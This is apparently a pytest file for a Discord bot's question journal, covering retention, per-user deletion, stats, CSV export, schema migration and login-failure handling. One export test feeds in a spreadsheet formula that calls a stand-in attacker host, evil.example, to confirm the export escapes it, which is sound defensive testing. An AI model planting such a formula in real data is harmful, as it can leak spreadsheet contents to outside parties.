"""bot/discord/journal.py and the commands that read it: retention on a fake clock, forget, stats, CSV exports,
the move from the old feedback tables; plus the one log handler of `run` and an unreachable Discord."""

from __future__ import annotations

import csv
import json
import logging
import shutil
import socket
import sqlite3
import subprocess
from pathlib import Path

import pytest
import yaml

from bot.cli.main import main
from bot.discord.journal import DAY, Journal
from tests.support.waits import GUARD_S


class Clock:
    def __init__(self, now: float = 1_800_000_000.0) -> None:
        self.now = now

    def __call__(self) -> float:
        return self.now


def filled(tmp_path, clock=None, retention_days=None) -> Journal:
    j = Journal(tmp_path / "feedback.sqlite3", retention_days, clock or Clock())
    j.record("who is the CEO?", "answer", article="a", sentence_id="a#3", confidence=0.9, guild_id=1, user_id=10)
    q = j.record("price of a ticket", "not_covered", guild_id=1, user_id=11)
    j.record("Price of a ticket ", "not_covered", guild_id=1, user_id=10)
    j.record("when does it open", "unsure", article="a", sentence_id="a#5", confidence=0.4, guild_id=2, user_id=12)
    j.record("why", "error", guild_id=1, user_id=12)
    j.vote(q, 10, up=False)
    return j


def test_stats_count_outcomes_group_unanswered_and_rank_the_worst(tmp_path):
    j = filled(tmp_path)
    answered = j.record("how many stops", "answer", article="a", sentence_id="a#7", guild_id=1, user_id=10)
    for user in (10, 11, 12):
        j.vote(answered, user, up=False)
    j.vote(answered, 13, up=True)
    stats = j.stats()
    assert [w.total for w in stats.windows] == [6, 6, 6]
    assert stats.windows[0].outcomes == {"answer": 2, "unsure": 1, "not_covered": 2, "error": 1}
    assert stats.windows[0].not_covered_share == round(2 / 6, 3)
    assert stats.unanswered == [("price of a ticket", 2)]  # the same question typed twice, counted once
    assert [(r.question, r.sentence_id, r.up, r.down) for r in stats.worst][0] == ("how many stops", "a#7", 1, 3)
    assert j.stats(guild_id=2).windows[0].total == 1  # one server's view


def test_votes_are_one_per_user_and_question(tmp_path):
    j = filled(tmp_path)
    q = j.record("q", "answer", user_id=1)
    assert j.vote(q, 5, up=True) == "new" and j.vote(q, 5, up=True) == "same" and j.vote(q, 5, up=False) == "changed"
    assert [v for _, v in j.votes(q)] == [-1]


def test_forget_deletes_one_users_questions_and_votes_only(tmp_path):
    j = filled(tmp_path)
    assert j.forget(10) == (2, 1)
    with sqlite3.connect(j.path) as conn:
        left = conn.execute("SELECT count(*) FROM questions").fetchone()[0]
        hashes = {h for (h,) in conn.execute("SELECT user_hash FROM questions")}
    assert left == 3 and len(hashes) == 2
    assert j.forget(10) == (0, 0)


def test_retention_deletes_old_rows_on_a_schedule(tmp_path):
    clock = Clock()
    j = filled(tmp_path, clock, retention_days=30)
    clock.now += 29 * DAY
    j.record("still fresh", "answer", user_id=1)
    assert j.stats().all_time == 6  # nothing is 30 days old yet
    clock.now += 2 * DAY
    j.record("a month later", "answer", user_id=1)  # recording prunes (at most once an hour)
    assert j.stats().all_time == 2
    with sqlite3.connect(j.path) as conn:
        assert conn.execute("SELECT count(*) FROM ratings").fetchone()[0] == 0  # their votes went with them
    kept = Journal(tmp_path / "k.sqlite3", None, clock)
    kept.record("x", "answer")
    clock.now += 10_000 * DAY
    assert kept.prune() == 0  # retention_days: null keeps everything


def test_old_feedback_tables_are_moved_into_the_journal(tmp_path):
    db = tmp_path / "feedback.sqlite3"
    with sqlite3.connect(db) as conn:
        conn.executescript("""
            CREATE TABLE answers (id TEXT PRIMARY KEY, question TEXT NOT NULL, sentence_id INTEGER, article TEXT,
                                  abstained INTEGER NOT NULL, created_at REAL NOT NULL);
            CREATE TABLE votes (answer_id TEXT NOT NULL, user_hash TEXT NOT NULL, vote INTEGER NOT NULL,
                                article TEXT, question TEXT, voted_at REAL NOT NULL,
                                PRIMARY KEY (answer_id, user_hash));
            INSERT INTO answers VALUES ('a1', 'who?', 3, 'x', 0, 1.0), ('a2', 'capital of peru', NULL, NULL, 1, 2.0);
            INSERT INTO votes VALUES ('a1', 'h', -1, 'x', 'who?', 3.0);""")
    j = Journal(db, None, Clock(10.0))
    assert j.stats().windows[0].outcomes["not_covered"] == 1 and j.stats().all_time == 2
    assert j.votes("a1") == [("h", -1)]
    with sqlite3.connect(db) as conn:
        tables = {t for (t,) in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
    assert "answers" not in tables and "votes" not in tables


def test_a_journal_from_before_routes_gets_the_column_and_keeps_its_rows(tmp_path):
    db = tmp_path / "feedback.sqlite3"
    with sqlite3.connect(db) as conn:  # the questions table as the journal wrote it before routes were kept
        conn.executescript("""
            CREATE TABLE questions (id TEXT PRIMARY KEY, asked_at REAL NOT NULL, guild_id INTEGER, user_hash TEXT,
                question TEXT NOT NULL, outcome TEXT NOT NULL, article TEXT, sentence_id TEXT,
                confidence REAL, latency_ms REAL);
            INSERT INTO questions VALUES
                ('0123456789abcdef', 1.0, 7, NULL, 'who?', 'answer', 'x', 'x#1', 0.9, 12.0);""")
    j = Journal(db, None, Clock(10.0))
    assert j.asked("0123456789abcdef") == ("who?", "x")
    qid = j.record("and when?", "answer", article="x", route="reply")
    assert j.asked(qid) == ("and when?", "x")
    with sqlite3.connect(db) as conn:
        assert conn.execute("SELECT route FROM questions ORDER BY asked_at").fetchall() == [(None,), ("reply",)]


def test_asked_is_none_for_a_question_that_is_gone(tmp_path):
    j = Journal(tmp_path / "j.sqlite3", None, Clock(10.0))
    qid = j.record("who?", "answer", article="x", user_id=5)
    assert j.asked(qid) == ("who?", "x")
    j.forget(5)
    assert j.asked(qid) is None


def test_recording_a_question_costs_well_under_a_millisecond(tmp_path):
    """Measured, not asserted on the clock: the figure is printed by `article-bot bench` (journal_record_ms);
    here only that a thousand records all land."""
    j = Journal(tmp_path / "j.sqlite3")
    for i in range(1000):
        j.record(f"q{i}", "answer", user_id=i % 7, guild_id=1)
    assert j.stats().all_time == 1000


# ----- the commands ------------------------------------------------------------------------------

@pytest.fixture
def project(make_project, tmp_path):
    p = make_project()
    filled(p.root)  # feedback.sqlite3 beside config.yaml: the default journal
    return p


def test_stats_command_text_and_json(capsys, project):
    assert main(["stats", "--config", str(project.config_path)]) == 0
    out = capsys.readouterr().out
    assert "last  1 day(s): 5 questions, 1 answered, 1 unsure, 2 not covered (40%), 1 errors" in out
    assert "2× price of a ticket" in out
    assert main(["stats", "--json", "--days", "7", "--guild", "1", "--config", str(project.config_path)]) == 0
    data = json.loads(capsys.readouterr().out.strip().splitlines()[-1])
    assert [w["days"] for w in data["windows"]] == [7] and data["windows"][0]["total"] == 4
    assert main(["stats", "--days", "0", "--config", str(project.config_path)]) == 2


@pytest.mark.parametrize("what, header, n", [
    ("questions", ["id", "asked_at", "guild_id", "user_hash", "question", "outcome", "article", "sentence_id",
                   "confidence", "latency_ms", "route"], 5),
    ("unanswered", ["question", "times", "last_asked"], 1),
    ("feedback", ["question_id", "voted_at", "vote", "question", "outcome", "article", "sentence_id"], 1),
])
def test_export_writes_csv_with_a_header(capsys, project, tmp_path, what, header, n):
    out = tmp_path / f"{what}.csv"
    assert main(["export", what, "--csv", str(out), "--config", str(project.config_path)]) == 0
    with out.open(newline="", encoding="utf-8") as fh:
        table = list(csv.reader(fh))
    assert table[0] == header and len(table) == n + 1
    assert f"wrote {n} row(s)" in capsys.readouterr().out


def test_export_escapes_what_a_spreadsheet_would_run(project, tmp_path):
    j = Journal(project.root / "feedback.sqlite3")
    j.record('=HYPERLINK("http://evil.example/"&A1,"click")', "not_covered", user_id=3)
    j.record("-2+3", "not_covered", user_id=3)
    out = tmp_path / "q.csv"
    assert j.export("questions", out) == 7
    with out.open(newline="", encoding="utf-8") as fh:
        questions = [row[4] for row in csv.reader(fh)][1:]
    assert "'=HYPERLINK(\"http://evil.example/\"&A1,\"click\")" in questions and "'-2+3" in questions
    assert not [q for q in questions if q[:1] in "=+-@"]


def test_a_failing_transaction_never_swallows_another_write(tmp_path):
    """forget() fails half-way (a trigger aborts it): it is rolled back under the lock, and the
    next record lands."""
    j = filled(tmp_path)
    with sqlite3.connect(j.path) as conn:
        conn.execute("CREATE TRIGGER no_delete BEFORE DELETE ON questions BEGIN SELECT RAISE(ABORT, 'no'); END")
    assert j.forget(10) is None
    qid = j.record("after the failure", "answer", user_id=99)
    with sqlite3.connect(j.path) as conn:
        assert conn.execute("SELECT count(*) FROM questions WHERE id = ?", (qid,)).fetchone()[0] == 1
        assert conn.execute("SELECT count(*) FROM ratings").fetchone()[0] == 1  # forget's first delete undone


def test_stats_without_a_journal_prints_zero_counts_and_leaves_no_file(capsys, make_project):
    p = make_project()
    journal = p.root / "feedback.sqlite3"
    assert main(["stats", "--config", str(p.config_path)]) == 0
    out, err = capsys.readouterr()
    assert out.splitlines() == [
        "last  1 day(s): 0 questions, 0 answered, 0 unsure, 0 not covered (-), 0 errors",
        "last  7 day(s): 0 questions, 0 answered, 0 unsure, 0 not covered (-), 0 errors",
        "last 30 day(s): 0 questions, 0 answered, 0 unsure, 0 not covered (-), 0 errors",
        "most asked, not covered: none",
        "worst-rated answers: none",
        "0 questions in the journal (kept 90 days)",
        f"no journal yet: {journal} is created when the bot answers its first question on Discord (questions "
        "asked with `article-bot ask` are not recorded)",
    ]
    assert err == "" and not journal.exists() and list(p.root.glob("feedback.sqlite3*")) == []


def test_stats_json_without_a_journal_has_the_shape_of_a_full_one(capsys, make_project, tmp_path):
    p = make_project()
    assert main(["stats", "--json", "--config", str(p.config_path)]) == 0
    out = capsys.readouterr().out
    empty = json.loads(out)
    assert out.count("\n") == 1  # the JSON object alone
    assert empty == {"windows": [{"days": d, "total": 0, "outcomes": {"answer": 0, "unsure": 0, "not_covered": 0,
                                                                     "error": 0}, "not_covered_share": None}
                                 for d in (1, 7, 30)],
                     "unanswered": [], "worst": [], "all_time": 0}
    full = filled(tmp_path).stats().to_json()
    assert set(empty) == set(full) and [set(w) for w in empty["windows"]] == [set(w) for w in full["windows"]]
    assert not (p.root / "feedback.sqlite3").exists()


@pytest.mark.parametrize("what", ["questions", "unanswered", "feedback"])
def test_export_without_a_journal_writes_the_header_only(capsys, make_project, tmp_path, what):
    p = make_project()
    out = tmp_path / f"{what}.csv"
    assert main(["export", what, "--csv", str(out), "--config", str(p.config_path)]) == 0
    with out.open(newline="", encoding="utf-8") as fh:
        table = list(csv.reader(fh))
    assert len(table) == 1 and table[0][0] in ("id", "question", "question_id")
    printed = capsys.readouterr().out.splitlines()
    assert printed[0] == f"wrote 0 row(s) of {what} to {out}" and printed[1].startswith("no journal yet: ")
    assert not (p.root / "feedback.sqlite3").exists()


def test_an_empty_journal_reads_as_zero_counts(capsys, make_project, tmp_path):
    p = make_project()
    j = Journal(p.root / "feedback.sqlite3")
    j.record("who is the CEO?", "answer", user_id=1)
    j.forget(1)  # a journal whose only rows went
    j.close()
    assert main(["stats", "--config", str(p.config_path)]) == 0
    out = capsys.readouterr().out
    assert "0 questions in the journal (kept 90 days)" in out and "no journal yet" not in out
    assert main(["export", "questions", "--csv", str(tmp_path / "q.csv"), "--config", str(p.config_path)]) == 0
    assert capsys.readouterr().out == f"wrote 0 row(s) of questions to {tmp_path / 'q.csv'}\n"


def test_retention_days_is_range_checked(tmp_path):
    from bot.config import load_config
    from bot.errors import ConfigError

    path = tmp_path / "config.yaml"
    path.write_text(yaml.safe_dump({"discord": {"retention_days": 0}}), encoding="utf-8")
    with pytest.raises(ConfigError, match="discord.retention_days.*1 to 3650"):
        load_config(path)


def test_the_files_of_an_open_journal_are_git_ignored(tmp_path):
    """WAL mode leaves -wal and -shm beside the database while it is open: none shows up as untracked."""
    root = Path(__file__).resolve().parents[2]
    git = shutil.which("git")
    if git is None:
        pytest.skip("git is not installed")
    top = subprocess.run([git, "-C", str(root), "rev-parse", "--show-toplevel"], capture_output=True, text=True)
    if top.returncode != 0 or Path(top.stdout.strip()).resolve() != root:
        pytest.skip(f"{root} is not a git checkout")
    j = filled(tmp_path)
    names = sorted(p.name for p in tmp_path.iterdir())
    j.close()
    assert names == ["feedback.sqlite3", "feedback.sqlite3-shm", "feedback.sqlite3-wal"]
    paths = [f"{folder}{name}" for folder in ("", "deploy/state/") for name in names]  # feedback_db may be anywhere
    ignored = subprocess.run([git, "-C", str(root), "check-ignore", "--no-index", *paths],
                             capture_output=True, text=True)
    assert ignored.returncode in (0, 1), ignored.stderr
    assert sorted(ignored.stdout.split()) == sorted(paths)


# ----- run: one log handler, an unreachable Discord ----------------------------------------------

def test_run_logging_has_one_handler_and_prints_each_line_once(capsys):
    from bot.discord.run import setup_logging

    root = logging.getLogger()
    saved = root.handlers[:]
    try:
        logging.basicConfig(format="article-bot: %(message)s", force=True)  # what the CLI set up first
        setup_logging()
        assert len(root.handlers) == 1
        logging.getLogger("bot.test").info("exactly once")
        assert capsys.readouterr().err.count("exactly once") == 1
    finally:
        root.handlers[:] = saved


def test_run_against_an_unreachable_discord_is_one_line_without_the_token(capsys, make_project, monkeypatch):
    """Discord's API moved to a closed port on 127.0.0.1: the login cannot connect."""
    import discord.http

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    monkeypatch.setattr(discord.http.Route, "BASE", f"http://127.0.0.1:{port}/api/v10")
    token = "MTIzNDU2Nzg5MDEyMzQ1Njc4.GaBcDe.abcdefghijklmnopqrstuvwxyz0123456789AB"
    monkeypatch.setenv("DISCORD_TOKEN", token)
    p = make_project()
    root = logging.getLogger()
    saved = root.handlers[:]
    try:
        code = main(["run", "--config", str(p.config_path)])
    finally:
        root.handlers[:] = saved
    out, err = capsys.readouterr()
    assert code != 0 and "Traceback" not in err and token not in out + err
    errors = [line for line in err.splitlines() if "error:" in line]
    assert len(errors) == 1 and "cannot reach Discord" in errors[0]


def test_run_with_a_token_discord_rejects_is_one_line_without_the_token(capsys, make_project, monkeypatch):
    """A server on 127.0.0.1 answers the login as Discord does for a revoked token: 401."""
    import discord.http
    from aiohttp import web

    from bot.devtools.pages import PageServer

    token = "MTIzNDU2Nzg5MDEyMzQ1Njc4.GaBcDe.abcdefghijklmnopqrstuvwxyz0123456789AB"
    monkeypatch.setenv("DISCORD_TOKEN", token)
    p = make_project()
    root = logging.getLogger()
    saved = root.handlers[:]
    with PageServer() as server:
        async def unauthorized(request):
            return web.json_response({"message": "401: Unauthorized", "code": 0}, status=401)

        server.handle("/api/v10/users/@me", unauthorized)
        monkeypatch.setattr(discord.http.Route, "BASE", server.url("/api/v10"))
        try:
            code = main(["run", "--config", str(p.config_path)])
        finally:
            root.handlers[:] = saved
        assert "/api/v10/users/@me" in server.requests
    out, err = capsys.readouterr()
    assert code == 2 and "Traceback" not in err and token not in out + err
    errors = [line for line in err.splitlines() if "error:" in line]
    assert len(errors) == 1 and "Discord rejected DISCORD_TOKEN" in errors[0]


def test_export_to_stdout_writes_only_the_csv_there(capsys, make_project, tmp_path):
    """``--csv -``: the CSV on stdout (to pipe it), what was written on stderr; no file named '-'."""
    p = make_project()
    j = Journal(p.root / "feedback.sqlite3")
    j.record("who is the CEO?", "answer", user_id=1)
    j.close()
    assert main(["export", "questions", "--csv", "-", "--config", str(p.config_path)]) == 0
    out, err = capsys.readouterr()
    table = list(csv.reader(out.splitlines()))
    assert table[0][0] == "id" and [row[table[0].index("question")] for row in table[1:]] == ["who is the CEO?"]
    assert err == "wrote 1 row(s) of questions to stdout\n"
    assert not (p.root / "-").exists() and not (tmp_path / "-").exists()


def test_a_question_asked_again_for_an_asker_who_deleted_it_is_not_stored(tmp_path):
    """The 🔀 re-ask is recorded as its first asker's; when they ran /forget-me meanwhile, nothing is stored."""
    j = Journal(tmp_path / "journal.sqlite3")
    first = j.record("who is the CEO?", "answer", user_id=1)
    again = j.record("who is the CEO?", "answer", user_id=2, asker_of=first, route="alternative")
    assert j.asked(again) == ("who is the CEO?", None)
    assert j.forget(2) == (0, 0) and j.forget(1) == (2, 0)  # both rows were the first asker's
    gone = j.record("who is the CEO?", "answer", user_id=2, asker_of=first, route="alternative")
    assert j.asked(gone) is None
    j.close()


def test_export_to_a_pipe_closed_early_ends_quietly(make_project):
    """``export questions --csv - | head -1``: exit 0 and nothing on stderr once the reader has gone."""
    import sys

    p = make_project()
    j = Journal(p.root / "feedback.sqlite3")
    for n in range(3000):  # more than a pipe's buffer
        j.record(f"question number {n} about the bakery?", "answer", user_id=n)
    j.close()
    export = subprocess.Popen([sys.executable, "-m", "bot", "export", "questions", "--csv", "-", "--config",
                               str(p.config_path)], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert export.stdout.readline().startswith(b"id,")
    export.stdout.close()  # as `head -1` does
    err = export.stderr.read().decode()
    assert export.wait(timeout=GUARD_S) == 0 and "Traceback" not in err and "Broken pipe" not in err, err


def test_export_to_a_file_named_dash(capsys, make_project, monkeypatch):
    p = make_project()
    monkeypatch.chdir(p.root)
    assert main(["export", "questions", "--csv", "./-", "--config", str(p.config_path)]) == 0
    assert (p.root / "-").read_text(encoding="utf-8").startswith("id,")
